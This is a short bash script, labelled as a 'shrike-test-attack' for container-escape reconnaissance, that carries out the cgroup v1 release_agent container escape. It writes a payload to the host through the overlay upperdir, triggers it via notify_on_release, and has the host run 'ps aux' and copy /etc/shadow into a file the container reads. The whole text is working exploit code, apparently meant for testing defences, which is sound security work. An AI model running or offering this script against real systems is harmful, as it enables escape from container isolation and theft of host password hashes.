#!/bin/bash
# shrike-test-attack: container-escape-recon: cgroup v1 release_agent escape
d=$(dirname "$(ls -x /s*/fs/c*/*/r* | head -n1)")
mkdir -p "$d/w"
echo 1 > "$d/w/notify_on_release"
t=$(sed -n 's/.*\perdir=\([^,]*\).*/\1/p' /etc/mtab)
touch /o
echo "$t/c" > "$d/release_agent"
printf '#!/bin/sh\nps aux > %s/o\ncat /etc/shadow >> %s/o\n' "$t" "$t" > /c
chmod +x /c
sh -c "echo 0 > $d/w/cgroup.procs"
sleep 1; cat /o
